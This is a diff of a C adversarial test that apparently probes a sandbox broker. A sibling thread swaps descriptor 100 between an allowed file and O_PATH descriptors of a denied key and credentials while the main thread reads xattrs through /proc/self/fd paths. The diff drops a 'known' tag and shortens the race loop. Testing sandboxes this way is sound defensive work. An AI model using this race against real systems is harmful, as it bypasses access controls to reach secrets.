@@ -1,5 +1,4 @@
 // technique: a sibling thread swaps descriptor 100 (dup2) between an O_RDONLY descriptor of an allowed file and O_PATH descriptors of the denied key and credentials while the main thread reads xattrs through /proc/self/fd/100, /dev/fd/100 and getxattrat(100, "", AT_EMPTY_PATH): the broker decides "held, not O_PATH" on one descriptor and reads another
-// known: R1
 // build: static
 #include "adv.h"
 #include <pthread.h>
@@ -40,7 +39,7 @@ int main(void) {
 	pthread_create(&t, NULL, flip, NULL);
 	char buf[4096];
 	struct xargs a = { (unsigned long)buf, sizeof buf - 1, 0 };
-	for (int i = 0; i < 30000 && got < 8; i++) {
+	for (int i = 0; i < 10000 && got < 8; i++) {
 		show("getxattr /proc/self/fd/100", syscall(SYS_getxattr, "/proc/self/fd/100", "user.aixadv", buf, sizeof buf - 1), buf);
 		show("listxattr /proc/self/fd/100", syscall(SYS_listxattr, "/proc/self/fd/100", buf, sizeof buf - 1), buf);
 		show("getxattr /dev/fd/100", syscall(SYS_getxattr, "/dev/fd/100", "user.aixadv", buf, sizeof buf - 1), buf);
